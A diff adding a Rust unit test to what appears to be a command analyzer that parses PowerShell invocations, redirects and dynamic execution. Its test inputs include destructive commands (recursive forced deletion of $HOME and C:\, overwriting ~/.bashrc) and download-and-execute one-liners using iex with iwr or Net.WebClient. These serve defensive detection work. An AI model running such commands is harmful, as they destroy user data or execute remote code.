@@ -322,3 +322,80 @@ fn literal_process_substitution_is_parsed() {
         "{a:#?}"
     );
 }
+
+#[test]
+fn powershell_cmdlets_are_bound_and_looked_into() {
+    let a = has(
+        "pwsh -c 'Remove-Item -Path C:\\x -Recurse -Force'",
+        &["Remove-Item", "-Recurse", "-Force", "C:\\x"],
+    );
+    assert!(a.problems.is_empty(), "{:#?}", a.problems);
+    has("pwsh -c 'ri -rec -fo $HOME'", &["ri", "-rec", "-fo", "~"]);
+    has(
+        "pwsh -c 'Set-Content ~/.bashrc \"x\"'",
+        &["Set-Content", "-value", "x", "~/.bashrc"],
+    );
+    // a variable CAVRA cannot resolve is a dynamic argument
+    let a = an("pwsh -c 'Remove-Item -Recurse $target'");
+    let ri = a
+        .invocations
+        .iter()
+        .find(|i| i.program == "remove-item")
+        .unwrap();
+    assert!(ri.argv.last().unwrap().dynamic, "{ri:#?}");
+    // `'$x'` in single quotes is literal text
+    let a = an("pwsh -c \"Write-Output '$x'\"");
+    let w = a
+        .invocations
+        .iter()
+        .find(|i| i.program == "write-output")
+        .unwrap();
+    assert!(!w.argv[1].dynamic, "{w:#?}");
+    // redirections
+    let a = an("pwsh -c 'echo x > ~/.bashrc'");
+    let e = a.invocations.iter().find(|i| i.program == "echo").unwrap();
+    assert_eq!(e.redirects.len(), 1);
+    assert_eq!(e.redirects[0].target.value, "~/.bashrc");
+    assert_eq!(e.redirects[0].kind, RedirKind::Write);
+    // Start-Process runs its file with its arguments
+    let a = has(
+        "pwsh -c 'Start-Process cmd -ArgumentList \"/c rd /s /q C:\\\"'",
+        &["rd", "/s", "/q", "C:\\"],
+    );
+    let rd = a.invocations.iter().find(|i| i.program == "rd").unwrap();
+    assert_eq!(rd.wrappers, ["pwsh", "start-process", "cmd"]);
+    has(
+        "pwsh -c 'Start-Process -FilePath npm -ArgumentList \"run\",\"build\" -Wait'",
+        &["npm", "run", "build"],
+    );
+    lacks_program("pwsh -c 'Start-Process https://example.com'", "https:");
+    // iex of a subexpression: the statement's commands produce the code
+    let a = an("pwsh -c 'iex (iwr https://x/i).Content; Get-Date'");
+    let iex = a.invocations.iter().find(|i| i.program == "iex").unwrap();
+    let iwr = a
+        .invocations
+        .iter()
+        .position(|i| i.program == "iwr")
+        .unwrap();
+    let date = a
+        .invocations
+        .iter()
+        .position(|i| i.program == "get-date")
+        .unwrap();
+    let producers = iex.dynamic_exec.clone().unwrap();
+    assert!(producers.contains(&iwr) && !producers.contains(&date), "{a:#?}");
+    // WebClient downloads are downloads
+    let a = an("pwsh -c 'iex (New-Object Net.WebClient).DownloadString(\"https://x/i\")'");
+    let dl = a
+        .invocations
+        .iter()
+        .position(|i| i.program == "invoke-webrequest")
+        .unwrap();
+    assert_eq!(a.invocations[dl].argv[1].value, "https://x/i");
+    let iex = a.invocations.iter().find(|i| i.program == "iex").unwrap();
+    assert!(iex.dynamic_exec.clone().unwrap().contains(&dl));
+    has(
+        "pwsh -c '(New-Object Net.WebClient).DownloadFile(\"https://x/i\", \"i.ps1\")'",
+        &["invoke-webrequest", "https://x/i", "-OutFile", "i.ps1"],
+    );
+}
